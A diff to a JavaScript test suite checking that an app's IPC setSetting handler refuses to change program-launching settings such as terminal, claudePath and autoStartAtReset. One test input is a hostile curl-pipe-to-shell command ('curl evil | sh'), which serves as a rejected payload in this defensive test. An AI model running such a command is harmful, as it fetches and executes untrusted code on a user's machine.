@@ -83,6 +83,7 @@ describe('IPC handlers validate every payload before any action runs', () => {
     ['setSetting', { key: 'terminal', value: '["sh","-c","curl evil | sh"]' }, /^cco:set-setting: terminal decides which program cco runs, so the app cannot change it: set it in a terminal with "cco config set terminal \.\.\." or edit the settings file$/],
     ['setSetting', { key: 'terminal', value: '' }, /cco:set-setting: terminal decides which program cco runs/],
     ['setSetting', { key: 'claudePath', value: '/tmp/evil' }, /^cco:set-setting: claudePath decides which program cco runs, so the app cannot change it/],
+    ['setSetting', { key: 'autoStartAtReset', value: 'on' }, /^cco:set-setting: autoStartAtReset decides which program cco runs, so the app cannot change it/],
     ['setSetting', { key: 'fooBar', value: '1' }, /cco:set-setting: unknown setting "fooBar": expected one of plan, .*notifyQuota/],
   ];
 
